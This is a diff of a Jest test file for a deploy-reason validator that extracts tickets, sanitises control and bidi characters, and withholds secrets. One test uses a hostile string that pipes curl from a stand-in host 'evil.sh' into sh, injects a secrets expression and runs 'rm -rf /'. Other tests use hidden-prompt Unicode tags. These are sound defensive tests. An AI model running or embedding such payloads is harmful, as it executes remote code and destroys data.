@@ -1,5 +1,8 @@
-import { test } from 'node:test';
-import assert from 'node:assert/strict';
+import { describe, expect, test } from '@jest/globals';
+import { scanText } from '../../../lib/dlp/index.ts';
+import { githubToken, seededRng } from '../../../lib/dlp/synth.ts';
+import { expectNoLeak } from '../../../test/support/leak.ts';
+
 import {
   checkReason,
   reasonRules,
@@ -22,19 +25,18 @@ const GOOD = 'Roll out the payment fix for INC0042 to prod';
 
 test('a good reason passes and its ticket is extracted', () => {
   const r = checkReason(GOOD, DEFAULT_REASON_RULES, scanner);
-  assert.deepEqual(r.problems, []);
-  assert.equal(r.ok, true);
-  assert.deepEqual(r.tickets, ['INC0042']);
+  expect(r.problems).toStrictEqual([]);
+  expect(r.ok).toBe(true);
+  expect(r.tickets).toStrictEqual(['INC0042']);
 });
 
 test('JIRA-style keys count as tickets; lowercase or bare numbers do not', () => {
-  assert.deepEqual(
+  expect(
     checkReason('Deploy hotfix for checkout, see PAY-1234 and OPS2-7', DEFAULT_REASON_RULES, scanner).tickets,
-    ['PAY-1234', 'OPS2-7'],
-  );
+  ).toStrictEqual(['PAY-1234', 'OPS2-7']);
   const r = checkReason('Deploy hotfix for checkout, see pay-1234 and #77', DEFAULT_REASON_RULES, scanner);
-  assert.equal(r.ok, false);
-  assert.match(r.problems.join('\n'), /cites no ticket or incident/);
+  expect(r.ok).toBe(false);
+  expect(r.problems.join('\n')).toMatch(/cites no ticket or incident/);
 });
 
 for (const [name, raw] of [
@@ -45,70 +47,68 @@ for (const [name, raw] of [
 ] as const) {
   test(`an ${name} reason is refused with one clear problem`, () => {
     const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
-    assert.equal(r.ok, false);
-    assert.equal(r.problems.length, 1);
-    assert.match(r.problems[0]!, /reason is empty/);
+    expect(r.ok).toBe(false);
+    expect(r.problems.length).toBe(1);
+    expect(r.problems[0]!).toMatch(/reason is empty/);
   });
 }
 
 test('too short and too long are refused with the counts', () => {
   const short = checkReason('fix INC1', DEFAULT_REASON_RULES, scanner);
-  assert.equal(short.ok, false);
-  assert.match(short.problems.join(), /8 characters; at least 20/);
+  expect(short.ok).toBe(false);
+  expect(short.problems.join()).toMatch(/8 characters; at least 20/);
   const long = checkReason(`INC0042 ${'x'.repeat(1200)}`, DEFAULT_REASON_RULES, scanner);
-  assert.equal(long.ok, false);
-  assert.match(long.problems.join(), /at most 1000/);
+  expect(long.ok).toBe(false);
+  expect(long.problems.join()).toMatch(/at most 1000/);
 });
 
 test('shell and expression metacharacters are kept verbatim as data', () => {
   const raw = 'INC0042 rollback $(curl evil.sh | sh) `id` ${{ secrets.TOKEN }}; rm -rf /';
   const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
-  assert.equal(r.ok, true);
-  assert.equal(r.reason, raw);
+  expect(r.ok).toBe(true);
+  expect(r.reason).toBe(raw);
 });
 
 test('newlines and tabs become spaces; other control and bidi characters are removed', () => {
-  assert.equal(sanitizeReason('INC0042 line one\nline two\r\n\tthree'), 'INC0042 line one line two three');
-  assert.equal(sanitizeReason('a\u0000b\u001bc\u007fd\u0085e'), 'abcd e');
+  expect(sanitizeReason('INC0042 line one\nline two\r\n\tthree')).toBe('INC0042 line one line two three');
+  expect(sanitizeReason('a\u0000b\u001bc\u007fd\u0085e')).toBe('abcd e');
   // Trojan Source: a right-to-left override would make the log display something else.
-  assert.equal(sanitizeReason('INC1 \u202eevil\u202c ok\u200b'), 'INC1 evil ok');
+  expect(sanitizeReason('INC1 \u202eevil\u202c ok\u200b')).toBe('INC1 evil ok');
 });
 
 test('a secret in the reason is refused, withheld from the record, and never echoed', () => {
   const raw = `Rotate creds for INC0042, old key was ${EXAMPLE_KEY} contact ops@example.com`;
   const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
-  assert.equal(r.ok, false);
-  assert.match(r.problems.join(), /aws-access-key-id, email/);
+  expect(r.ok).toBe(false);
+  expect(r.problems.join()).toMatch(/aws-access-key-id, email/);
   const everything = JSON.stringify(r);
-  assert.ok(!everything.includes(EXAMPLE_KEY), 'the key must not appear anywhere in the result');
-  assert.ok(!everything.includes('ops@example.com'));
-  assert.match(r.reason, /^\[withheld: matched aws-access-key-id, email\]$/);
+  expectNoLeak(everything, EXAMPLE_KEY, 'the result');
+  expectNoLeak(everything, 'ops@example.com', 'the result');
+  expect(r.reason).toMatch(/^\[withheld: matched aws-access-key-id, email\]$/);
 });
 
 test('without a scanner, or when the scanner throws, the reason fails closed', () => {
-  assert.match(checkReason(GOOD, DEFAULT_REASON_RULES, undefined).problems.join(), /no secret\/PII scanner/);
+  expect(checkReason(GOOD, DEFAULT_REASON_RULES, undefined).problems.join()).toMatch(
+    /no secret\/PII scanner/,
+  );
   const broken: SecretScanner = () => {
     throw new TypeError(`boom ${EXAMPLE_KEY}`);
   };
   const r = checkReason(GOOD, DEFAULT_REASON_RULES, broken);
-  assert.equal(r.ok, false);
-  assert.match(r.problems.join(), /scan failed \(TypeError\)/);
-  assert.ok(
-    !JSON.stringify(r).includes(EXAMPLE_KEY),
-    'the error message (which could quote input) is not copied',
-  );
+  expect(r.ok).toBe(false);
+  expect(r.problems.join()).toMatch(/scan failed \(TypeError\)/);
+  expectNoLeak(JSON.stringify(r), EXAMPLE_KEY, 'the result');
 });
 
 test('a custom ticket pattern replaces the default and is named in the problem', () => {
   const rules = reasonRules({ ticketPattern: 'CHG\\d{7}', minLength: 10 });
-  assert.equal(checkReason('deploy for CHG0001234', rules, scanner).ok, true);
+  expect(checkReason('deploy for CHG0001234', rules, scanner).ok).toBe(true);
   const r = checkReason('deploy for INC0042 now', rules, scanner);
-  assert.match(r.problems.join(), /a match for \/CHG\\d\{7\}\//);
+  expect(r.problems.join()).toMatch(/a match for \/CHG\\d\{7\}\//);
 });
 
 test('an invalid ticket pattern is a clear error', () => {
-  assert.throws(
-    () => reasonRules({ ticketPattern: '([A-Z' }),
+  expect(() => reasonRules({ ticketPattern: '([A-Z' })).toThrow(
     /reason.ticketPattern is not a valid regular expression/,
   );
 });
@@ -123,11 +123,11 @@ test('the default ticket pattern does not take algorithm or encoding names for t
       'A1-2 and X-1 are not ticket keys either',
     ]) {
       const check = checkReason(text, rules, scanner);
-      assert.deepEqual(check.tickets, [], text);
-      assert.match(check.problems.join(' '), /cites no ticket/);
+      expect(check.tickets).toStrictEqual([]);
+      expect(check.problems.join(' ')).toMatch(/cites no ticket/);
     }
     const real = checkReason('Deploy the SHAPE-12 fix with CHG-1234 and PAY-77 for INC0042', rules, scanner);
-    assert.deepEqual(real.tickets, ['SHAPE-12', 'CHG-1234', 'PAY-77', 'INC0042']);
+    expect(real.tickets).toStrictEqual(['SHAPE-12', 'CHG-1234', 'PAY-77', 'INC0042']);
   }
 });
 
@@ -135,6 +135,52 @@ test('soft hyphens and Unicode tag characters are stripped from the reason', () 
   const tags = [...'ignore previous'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('');
   const raw = `CHG-1234 de\u00adploy${tags} the fix\u{e007f} now`;
   const clean = sanitizeReason(raw);
-  assert.equal(clean, 'CHG-1234 deploy the fix now');
-  assert.ok(![...clean].some((c) => c.codePointAt(0)! >= 0xe0000 || c === '\u00ad'));
+  expect(clean).toBe('CHG-1234 deploy the fix now');
+  expect(![...clean].some((c) => c.codePointAt(0)! >= 0xe0000 || c === '\u00ad')).toBeTruthy();
+});
+
+describe('a secret split by whitespace is still found (real DLP engine)', () => {
+  // A GitHub token with a valid checksum, synthesised at run time.
+  const token = githubToken(seededRng(11));
+  const dlp: SecretScanner = (text) => scanText(text, { path: 'reason' });
+  test.each([
+    ['a line break', (t: string) => `${t.slice(0, 20)}\n${t.slice(20)}`],
+    ['a CRLF and indentation', (t: string) => `${t.slice(0, 12)}\r\n    ${t.slice(12)}`],
+    ['a space', (t: string) => `${t.slice(0, 25)} ${t.slice(25)}`],
+    ['several line breaks', (t: string) => t.match(/.{1,8}/g)!.join('\n')],
+    ['a tab and a zero-width space', (t: string) => `${t.slice(0, 10)}\t\u200b${t.slice(10)}`],
+  ])('split by %s', (_, split) => {
+    const raw = `Deploy hotfix for INC0042 with ${split(token)} as the credential`;
+    expect(dlp(`with ${token} as`).length).toBe(1); // the detector knows the whole token
+    expect(dlp(sanitizeReason(raw)).length).toBe(0); // and the split really hides it from a plain scan
+    const r = checkReason(raw, DEFAULT_REASON_RULES, dlp);
+    expect(r.ok).toBe(false);
+    expect(r.reason).toMatch(/^\[withheld: matched /);
+    expect(r.tickets).toStrictEqual([]);
+    expectNoLeak(JSON.stringify(r), [token, token.slice(0, 20), token.slice(20)], 'the reason check');
+  });
+  test('an ordinary multi-line reason is still accepted', () => {
+    const r = checkReason(
+      'Roll out the payment fix\nfor INC0042 to prod\n  after canary',
+      DEFAULT_REASON_RULES,
+      dlp,
+    );
+    expect(r.problems).toStrictEqual([]);
+  });
+});
+
+test('an over-long reason is refused before the scanner sees it, and is not stored', () => {
+  let scans = 0;
+  const counting: SecretScanner = (text) => {
+    scans++;
+    return scanner(text);
+  };
+  const raw = `INC0042 ${'deploy the fix '.repeat(200)}`;
+  const r = checkReason(raw, DEFAULT_REASON_RULES, counting);
+  expect(scans).toBe(0);
+  expect(r.ok).toBe(false);
+  expect(r.reason).toBe('[withheld: too long to be checked]');
+  expect(r.problems).toStrictEqual([
+    `the reason is ${sanitizeReason(raw).length} characters; at most 1000 are allowed (link to the ticket instead)`,
+  ]);
 });
